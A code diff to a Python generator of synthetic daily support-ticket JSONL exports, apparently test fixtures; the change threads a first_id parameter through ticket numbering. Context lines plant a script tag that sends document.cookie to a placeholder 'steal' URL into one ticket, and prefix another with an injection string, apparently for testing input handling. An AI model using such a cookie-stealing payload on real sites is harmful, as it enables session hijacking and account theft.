@@ -66,7 +66,7 @@ INJECTION = (
 )
 
 
-def _ticket(rng: random.Random, number: int, closed_day: str) -> dict:
+def _ticket(rng: random.Random, number: int, closed_day: str, first_id: int = 100000) -> dict:
     if rng.random() < 0.18:
         language, subject, body = rng.choice(FOREIGN)
     else:
@@ -80,7 +80,7 @@ def _ticket(rng: random.Random, number: int, closed_day: str) -> dict:
         text = "<html><body><p>" + text.replace("\n\n", "</p><p>") + "</p><br><div class='sig'>Sent from my phone</div></body></html>"
     hour, minute = rng.randint(0, 23), rng.randint(0, 59)
     return {
-        "ticket_id": f"T-{100000 + number}",
+        "ticket_id": f"T-{first_id + number}",
         "subject": subject,
         "body": text,
         "customer_id": f"C-{rng.randint(1000, 9999)}",
@@ -90,11 +90,12 @@ def _ticket(rng: random.Random, number: int, closed_day: str) -> dict:
     }
 
 
-def generate(day: str, count: int = 300, seed: int = 7) -> list[str]:
-    """JSONL lines for one day's export; ``count`` is the number of lines, bad ones included."""
+def generate(day: str, count: int = 300, seed: int = 7, first_id: int = 100000) -> list[str]:
+    """JSONL lines for one day's export; ``count`` is the number of lines, bad ones included;
+    tickets are numbered from ``first_id`` (another day's export holds other tickets)."""
     rng = random.Random(f"{seed}:{day}")
     good = count - 20
-    tickets = [_ticket(rng, n, day) for n in range(good)]
+    tickets = [_ticket(rng, n, day, first_id) for n in range(good)]
     tickets[3]["body"] += "\n\n<script>fetch('https://example.invalid/steal?c='+document.cookie)</script>"
     tickets[5]["body"] = INJECTION + "\n\n" + tickets[5]["body"]
     tickets[8]["body"] = "Help"
@@ -121,8 +122,8 @@ def generate(day: str, count: int = 300, seed: int = 7) -> list[str]:
     return lines
 
 
-def write_day(data_dir: Path, day: str, count: int = 300, seed: int = 7) -> Path:
+def write_day(data_dir: Path, day: str, count: int = 300, seed: int = 7, first_id: int = 100000) -> Path:
     path = Path(data_dir) / "tickets" / f"closed_{day}.jsonl"
     path.parent.mkdir(parents=True, exist_ok=True)
-    path.write_text("\n".join(generate(day, count, seed)) + "\n", encoding="utf-8")
+    path.write_text("\n".join(generate(day, count, seed, first_id)) + "\n", encoding="utf-8")
     return path
